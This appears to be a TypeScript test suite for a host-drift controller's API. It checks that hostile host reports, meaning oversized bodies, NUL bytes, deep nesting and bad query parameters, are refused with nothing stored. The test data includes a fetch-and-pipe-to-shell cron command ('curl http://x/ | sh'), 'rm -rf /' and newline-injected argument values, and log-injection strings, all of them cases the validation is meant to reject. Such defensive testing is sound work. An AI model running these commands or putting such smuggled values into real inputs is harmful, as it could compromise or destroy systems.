/**
 * @module Issue 21: a compromised host must not be able to steer the controller. Each test performs
 * the attack over the API (app.inject, or real HTTP where the event loop matters), asserts that it is
 * refused with a 4xx that names the problem (or, for the largest report the limits allow, accepted in
 * bounded time while /healthz keeps answering), that nothing changed, and that honest hosts still report.
 * Run for every store by api.sqlite.test.ts and api.postgres.test.ts.
 */
import { randomBytes } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { capDeviations } from '../../agent/report.js';
import type { App } from '../../controller/app.js';
import type { Store } from '../../controller/store/types.js';
import type { Deviation } from '../../shared/schema/deviation.js';
import { LIMITS } from '../../shared/schema/limits.js';
import { Harness, IMAGE, type HostSim, type Res } from './harness.js';

function refused(r: Res, status: number, code: string, names: RegExp | string): void {
  expect(r.status, r.text).toBe(status);
  expect(r.body.error, r.text).toBe(code);
  expect(r.body.message).toMatch(names);
}

/** A cron entry as the cron collector records it, with `command` as given. */
function cronDeviation(command: string, key = '/etc/cron.d/backup:1'): Deviation {
  return {
    collector: 'cron',
    key,
    change: 'added',
    expected: null,
    actual: { kind: 'entry', file: '/etc/cron.d/backup', schedule: '* * * * *', user: 'root', command },
    severity: 'high',
  };
}

/** As many minimal deviations as fit in `bytes` of JSON (the shape of the 80,000-deviation scan). */
function minimalDeviations(bytes: number): Deviation[] {
  const out: Deviation[] = [];
  let used = 4096;
  for (let i = 0; ; i++) {
    const d: Deviation = {
      collector: 'files',
      key: `/x/${i.toString(36).padStart(6, '0')}`,
      change: 'removed',
      expected: null,
      actual: null,
      severity: 'low',
    };
    used += JSON.stringify(d).length + 1;
    if (used > bytes || out.length >= LIMITS.maxDeviations) return out;
    out.push(d);
  }
}

/** JSON text of an object nested `levels` deep (JSON.stringify itself would run out of stack). */
function nested(levels: number): string {
  return '{"x":'.repeat(levels) + '{}' + '}'.repeat(levels);
}

export function runHostileInputContract(name: string, open: () => Promise<Store>): void {
  describe(`hostile host input: ${name}`, () => {
    let h: Harness;
    let honest: HostSim;
    const extraApps: App[] = [];

    beforeEach(async () => {
      h = await Harness.start(await open());
      honest = await h.enroll('honest-1');
      expect((await honest.scan()).body.state).toBe('clean');
    });
    afterEach(async () => {
      for (const app of extraApps.splice(0)) await app.close();
      await h.close();
    });

    /** The honest host's next scan and heartbeat still go through. */
    async function honestStillReports(): Promise<void> {
      const scan = await honest.scan();
      expect(scan.status, scan.text).toBe(200);
      expect(scan.body).toMatchObject({ status: 'accepted', state: 'clean' });
      const hb = await honest.send({ kind: 'heartbeat' });
      expect(hb.status, hb.text).toBe(200);
    }

    describe('a report as large as the limits allow', () => {
      it('is accepted within a bounded time while /healthz keeps answering within 1 s', async () => {
        const attacker = await h.enroll('big-1');
        const deviations = minimalDeviations(h.config.bodyLimit);
        expect(deviations.length).toBeGreaterThan(70_000);
        const body = JSON.stringify(attacker.report({ deviations }));
        expect(body.length).toBeLessThanOrEqual(h.config.bodyLimit);

        // Real HTTP for /healthz: it has to be answered by the same event loop that ingests the report.
        await h.app.listen({ host: '127.0.0.1', port: 0 });
        const port = (h.app.server.address() as { port: number }).port;
        let slowest = 0;
        let answered = 0;
        let done = false;
        const poll = (async () => {
          while (!done) {
            const t = performance.now();
            const r = await fetch(`http://127.0.0.1:${port}/healthz`);
            expect(r.status).toBe(200);
            await r.text();
            slowest = Math.max(slowest, performance.now() - t);
            answered++;
            await new Promise((resolve) => setTimeout(resolve, 20));
          }
        })();
        const started = performance.now();
        const r = await h.req('POST', '/api/v1/reports', { token: attacker.credential, payload: body });
        const took = performance.now() - started;
        done = true;
        await poll;

        expect(r.status, r.text).toBe(200);
        expect(r.body).toMatchObject({ status: 'accepted', deviations: deviations.length, digestMismatch: [] });
        expect(took).toBeLessThan(LIMITS.requestTimeBudgetMs);
        expect(answered).toBeGreaterThan(1);
        expect(slowest).toBeLessThan(1000);
        expect((await h.store.listHostDeviations('big-1')).length).toBe(deviations.length);
        await honestStillReports();
      }, 60_000);

      it('is refused with 400 past the deviation limit, whatever the body limit', async () => {
        const big = await h.buildApp({ config: { bodyLimit: 64 * 1024 * 1024 } });
        extraApps.push(big);
        const attacker = await h.enroll('big-1');
        const deviations = Array.from(
          { length: LIMITS.maxDeviations + 1 },
          (_, i): Deviation => ({
            collector: 'files',
            key: `/x/${i}`,
            change: 'removed',
            expected: null,
            actual: null,
            severity: 'low',
          }),
        );
        const before = await h.snapshot();
        const r = await big.inject({
          method: 'POST',
          url: '/api/v1/reports',
          headers: { authorization: `Bearer ${attacker.credential}`, 'content-type': 'application/json' },
          payload: JSON.stringify(attacker.report({ deviations })),
        });
        expect(r.statusCode, r.body).toBe(400);
        expect(JSON.parse(r.body).message).toMatch(/body\.deviations.*100000/);
        expect(await h.snapshot()).toEqual(before);
      }, 60_000);

      it('from an agent with more deviations than a report carries is sent capped, and taints instead of leaving the host clean', async () => {
        const host = await h.enroll('drifted-1');
        host.upgrade('openssl', '9.9.9-1').write('/home/alice/a.txt', 'a\n').write('/home/alice/b.txt', 'b\n');
        const full = host.report();
        expect(full.deviations).toHaveLength(3);
        // The agent's own capping, with a limit of 2 standing in for LIMITS.maxDeviations.
        const capped = capDeviations(full.deviations, full.collectors, 2);
        expect(capped.deviations.map((d) => d.collector)).toContain('packages');
        expect(capped.collectors.find((c) => c.collector === 'files')?.warnings).toEqual([
          expect.stringMatching(/^1 deviations not sent: a report carries at most 2/),
        ]);
        const r = await host.send({ ...full, ...capped });
        expect(r.status, r.text).toBe(200);
        expect(r.body).toMatchObject({ status: 'accepted', state: 'tainted', digestMismatch: ['files'] });
      });

      it('that overruns its time budget is answered 503 and rolled back; the same report goes through with time to spare', async () => {
        const hurried = await h.buildApp({ config: { requestTimeBudget: '1ms' } });
        extraApps.push(hurried);
        const host = await h.enroll('slow-1');
        host.write('/home/alice/notes.txt', 'hello\n');
        const report = host.report({ deviations: [...host.deviations(), ...minimalDeviations(512 * 1024)] });
        const before = await h.snapshot();
        const r = await hurried.inject({
          method: 'POST',
          url: '/api/v1/reports',
          headers: { authorization: `Bearer ${host.credential}`, 'content-type': 'application/json' },
          payload: JSON.stringify(report),
        });
        expect(r.statusCode, r.body).toBe(503);
        expect(JSON.parse(r.body)).toMatchObject({
          error: 'DW_ERR_TIME_BUDGET',
          message: expect.stringMatching(/time budget of 1 ms.*nothing was stored/),
        });
        // Like a shed request: the agent holds off for Retry-After (overload.retryAfter, 5 s by default).
        expect(r.headers['retry-after']).toBe('5');
        expect(await h.snapshot()).toEqual(before);
        const again = await host.send(report);
        expect(again.status, again.text).toBe(200);
        expect(again.body.status).toBe('accepted');
        await honestStillReports();
      });
      it('a large scan that overruns its time budget is answered 413 (send fewer), not 503, so the agent does not resend it for ever', async () => {
        const hurried = await h.buildApp({ config: { requestTimeBudget: '1ms', bodyLimit: 64 * 1024 * 1024 } });
        extraApps.push(hurried);
        const host = await h.enroll('huge-1');
        const deviations = Array.from(
          { length: 10_001 },
          (_, i): Deviation => ({
            collector: 'files',
            key: `/x/${i}`,
            change: 'removed',
            expected: null,
            actual: null,
            severity: 'low',
          }),
        );
        const before = await h.snapshot();
        const r = await hurried.inject({
          method: 'POST',
          url: '/api/v1/reports',
          headers: { authorization: `Bearer ${host.credential}`, 'content-type': 'application/json' },
          payload: JSON.stringify(host.report({ deviations })),
        });
        expect(r.statusCode, r.body).toBe(413);
        expect(JSON.parse(r.body)).toMatchObject({
          error: 'DW_ERR_TOO_LARGE',
          message: expect.stringMatching(/requestTimeBudget: a scan of 10001 deviations .* send fewer/),
        });
        expect(await h.snapshot()).toEqual(before);
        await honestStillReports();
      }, 60_000);
    });

    describe('strings the store cannot hold', () => {
      it('refuses a NUL byte in a cron line with 400 naming the field, stores nothing, and the host can report again', async () => {
        const attacker = await h.enroll('evil-1');
        const before = await h.snapshot();
        const r = await attacker.scan({ deviations: [cronDeviation('curl http://x/\u0000 | sh')] });
        refused(r, 400, 'DW_ERR_VALIDATION', /body\.deviations\[0\]\.actual\.command: contains a NUL/);
        expect(await h.snapshot()).toEqual(before);
        // Nothing was taken: the same host's next report (seq not consumed) is accepted.
        const next = await attacker.scan();
        expect(next.status, next.text).toBe(200);
        await honestStillReports();
      });

      it('refuses NUL bytes and lone surrogates anywhere: keys, item fields, collector errors, object member names', async () => {
        const attacker = await h.enroll('evil-1');
        const before = await h.snapshot();
        const cases: [Partial<Record<string, unknown>>, RegExp][] = [
          [
            { deviations: [{ ...cronDeviation('ok'), key: '/etc/cron.d/x\u0000' }] },
            /body\.deviations\[0\]\.key: contains a NUL/,
          ],
          [
            { deviations: [cronDeviation('echo \ud800')] },
            /body\.deviations\[0\]\.actual\.command: contains a lone UTF-16 surrogate/,
          ],
          [
            {
              deviations: [
                { ...cronDeviation('ok'), actual: { kind: 'entry', file: '/etc/crontab', ['na\u0000me']: 'x' } },
              ],
            },
            /body\.deviations\[0\]\.actual\[.*\]: its name contains a NUL/,
          ],
          [
            { collectors: [{ collector: 'cron', ok: false, durationMs: 1, items: 0, error: 'bad \udc00' }] },
            /body\.collectors\[0\]\.error: contains a lone/,
          ],
        ];
        for (const [patch, names] of cases) {
          refused(await attacker.send({ ...attacker.report(), ...patch } as never), 400, 'DW_ERR_VALIDATION', names);
        }
        expect(await h.snapshot()).toEqual(before);
        await honestStillReports();
      });

      it('refuses a string longer than the limit and a key longer than the store can index, and takes one at the limit', async () => {
        const attacker = await h.enroll('evil-1');
        refused(
          await attacker.scan({ deviations: [cronDeviation('x'.repeat(LIMITS.maxString + 1))] }),
          400,
          'DW_ERR_VALIDATION',
          /body\.deviations\[0\]\.actual\.command: longer than 65536/,
        );
        refused(
          await attacker.scan({
            deviations: [{ ...cronDeviation('x'), key: `/${'é'.repeat(LIMITS.maxKeyBytes / 2)}` }],
          }),
          400,
          'DW_ERR_VALIDATION',
          /body\.deviations\.0\.key: at most 2048 bytes/,
        );
        // At the limit, and incompressible: the store's index takes it (PostgreSQL's btree refuses rows over 2,704 bytes).
        const key = `/home/alice/${randomBytes(LIMITS.maxKeyBytes).toString('base64url')}`.slice(0, LIMITS.maxKeyBytes);
        const atLimit = await attacker.scan({
          deviations: [{ collector: 'files', key, change: 'removed', expected: null, actual: null, severity: 'low' }],
        });
        expect(atLimit.status, atLimit.text).toBe(200);
        expect((await h.store.listHostDeviations('evil-1')).map((d) => d.key)).toContain(key);
        await honestStillReports();
      });
    });

    describe('names that reach logs, the dashboard and providers', () => {
      it('refuses a 200 KB hostname, a hostname with NUL or a newline, and a group with control characters at enrollment', async () => {
        const enroll = (body: Record<string, unknown>) =>
          h.req('POST', '/api/v1/enroll', {
            token: h.tokens.agent,
            body: { hostId: 'evil-1', imageId: IMAGE, ...body },
          });
        refused(
          await enroll({ hostname: 'a'.repeat(200_000) }),
          400,
          'DW_ERR_VALIDATION',
          /body\.hostname: longer than 65536/,
        );
        refused(
          await enroll({ hostname: `${'a'.repeat(63)}.`.repeat(4) + 'b' }),
          400,
          'DW_ERR_VALIDATION',
          /body\.hostname: expected an RFC 1123 host name/,
        );
        refused(
          await enroll({ hostname: 'under_score.example' }),
          400,
          'DW_ERR_VALIDATION',
          /body\.hostname: expected an RFC 1123 host name/,
        );
        refused(
          await enroll({ hostname: 'web\u0000.example' }),
          400,
          'DW_ERR_VALIDATION',
          /body\.hostname: contains a NUL/,
        );
        refused(
          await enroll({ hostname: 'web-1\n--delete-everything' }),
          400,
          'DW_ERR_VALIDATION',
          /body\.hostname: expected an RFC 1123/,
        );
        refused(
          await enroll({ group: 'web\r\nfake log line' }),
          400,
          'DW_ERR_VALIDATION',
          /body\.group: must not contain control characters/,
        );
        refused(await enroll({ agentVersion: '1.0 ; rm -rf /' }), 400, 'DW_ERR_VALIDATION', /body\.agentVersion/);
        refused(
          await enroll({ inventory: { hostId: 'evil-1', hostname: '-rf', os: null, kernel: null, addresses: [] } }),
          400,
          'DW_ERR_VALIDATION',
          /body\.inventory\.hostname/,
        );
        expect(await h.store.getHost('evil-1')).toBeNull();
        // A proper one goes through.
        const ok = await enroll({
          hostname: 'web-7.eu-west-1.example.internal',
          group: 'web-asg',
          agentVersion: '1.2.3-rc.1+build.5',
        });
        expect(ok.status, ok.text).toBe(201);
      });

      it('refuses the same in a report’s inventory, group and agent version, changing nothing', async () => {
        const attacker = await h.enroll('evil-1');
        const before = await h.snapshot();
        const inventory = {
          hostId: 'evil-1',
          hostname: 'evil-1',
          os: 'Debian',
          kernel: '6.1',
          addresses: ['10.0.0.1'],
        };
        const cases: [Record<string, unknown>, RegExp][] = [
          [{ inventory: { ...inventory, hostname: 'h'.repeat(300) } }, /body\.inventory\.hostname/],
          [
            { inventory: { ...inventory, os: 'Debian\u2028injected' } },
            /body\.inventory\.os: must not contain control/,
          ],
          [
            {
              inventory: { ...inventory, addresses: Array.from({ length: LIMITS.maxAddresses + 1 }, () => '10.0.0.1') },
            },
            /body\.inventory\.addresses/,
          ],
          [{ group: 'x'.repeat(LIMITS.maxName + 1) }, /body\.group/],
          [{ agentVersion: 'a'.repeat(65) }, /body\.agentVersion/],
          [
            {
              collectors: [
                { collector: 'cron', ok: false, durationMs: 1, items: 0, error: 'e'.repeat(LIMITS.maxMessage + 1) },
              ],
            },
            /body\.collectors\.0\.error/,
          ],
        ];
        for (const [patch, names] of cases)
          refused(await attacker.send({ ...attacker.report(), ...patch } as never), 400, 'DW_ERR_VALIDATION', names);
        expect(await h.snapshot()).toEqual(before);
        await honestStillReports();
      });
    });

    describe('deep nesting', () => {
      it('refuses item values nested 10,000 levels with 400 naming the limit, not a stack overflow', async () => {
        const attacker = await h.enroll('evil-1');
        const before = await h.snapshot();
        const report = JSON.stringify(
          attacker.report({
            deviations: [{ ...cronDeviation('x'), actual: { kind: 'entry', file: '/etc/crontab', timer: 'DEEP' } }],
          }),
        );
        const r = await h.req('POST', '/api/v1/reports', {
          token: attacker.credential,
          payload: report.replace('"DEEP"', nested(10_000)),
        });
        refused(
          r,
          400,
          'DW_ERR_VALIDATION',
          new RegExp(`body\\.deviations\\[0\\]\\.actual\\.timer(\\.x)+: nested deeper than ${LIMITS.maxDepth} levels`),
        );
        // Bodies of any route, not only reports.
        const enroll = JSON.stringify({ hostId: 'x', imageId: IMAGE, inventory: 'DEEP' }).replace(
          '"DEEP"',
          nested(10_000),
        );
        refused(
          await h.req('POST', '/api/v1/enroll', { token: h.tokens.agent, payload: enroll }),
          400,
          'DW_ERR_VALIDATION',
          /nested deeper/,
        );
        refused(
          await h.req('POST', '/api/v1/exemptions', { token: h.tokens.operator, payload: nested(100_000) }),
          400,
          'DW_ERR_VALIDATION',
          /nested deeper/,
        );
        refused(
          await h.req('POST', '/api/v1/manifests', {
            token: h.tokens.operator,
            payload: `[${'['.repeat(50_000)}${']'.repeat(50_000)}]`,
          }),
          400,
          'DW_ERR_VALIDATION',
          /nested deeper/,
        );
        expect(await h.snapshot()).toEqual(before);
        await honestStillReports();
      });
    });

    describe('wrong-typed query parameters', () => {
      it('answers 400 on every list route, never 500', async () => {
        // A second page exists for each sort, so the cursors below are checked against real rows.
        await h.enroll('honest-2');
        const bad = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
        const urls = [
          '/api/v1/hosts?limit=-1',
          '/api/v1/hosts?limit=abc',
          '/api/v1/hosts?limit=1&limit=2',
          '/api/v1/hosts?after=%00',
          '/api/v1/hosts?q=%00',
          '/api/v1/hosts?group=a%00b',
          '/api/v1/hosts?after=abc&sort=deviations',
          `/api/v1/hosts?after=${bad(['abc', 'honest-1'])}&sort=deviations`,
          `/api/v1/hosts?after=${bad([{}, 'honest-1'])}&sort=deviations`,
          `/api/v1/hosts?after=${bad([5, 'honest-1'])}&sort=stateSince`,
          `/api/v1/hosts?after=${bad(['not a time', 'honest-1'])}&sort=stateSince`,
          '/api/v1/hosts?after=a&after=b',
          '/api/v1/hosts/%00',
          '/api/v1/hosts/honest-1/reports?beforeSeq=abc',
          '/api/v1/hosts/honest-1/reports?beforeSeq=1e400',
          '/api/v1/hosts/honest-1/events?before=-1',
          '/api/v1/audit?afterId=abc',
          '/api/v1/audit?afterId={}',
          '/api/v1/audit?beforeId=99999999999999999999',
          '/api/v1/audit?limit=-1',
          '/api/v1/events?since=abc',
          '/api/v1/events?since=1&since=2',
          '/api/v1/findings?offset=-1',
          '/api/v1/findings?collector=%00',
          '/api/v1/findings/hosts?collector=files&key=%00&change=added',
          '/api/v1/findings/hosts?collector=files&key=k&change=added&after=%00',
          '/api/v1/replacements?after=abc',
          '/api/v1/replacements?limit=0',
          '/api/v1/replacements?host=%00',
          '/api/v1/exemptions?active=maybe',
          '/api/v1/manifests/%00',
          '/api/v1/drift-report?scope=host&id=%00',
        ];
        for (const url of urls) {
          const r = await h.get(url);
          expect(r.status, `${url}: ${r.text}`).toBe(400);
          expect(r.body.error, url).toBe('DW_ERR_VALIDATION');
          expect(r.body.message, url).toMatch(/querystring|params|after|cursor/);
        }
        // The well-formed listing still works.
        const list = await h.get('/api/v1/hosts?limit=1&sort=deviations');
        expect(list.status).toBe(200);
        const next = await h.get(`/api/v1/hosts?limit=1&sort=deviations&after=${list.body.next}`);
        expect(next.status, next.text).toBe(200);
        expect(next.body.hosts).toHaveLength(1);
        await honestStillReports();
      });
    });
  });
}
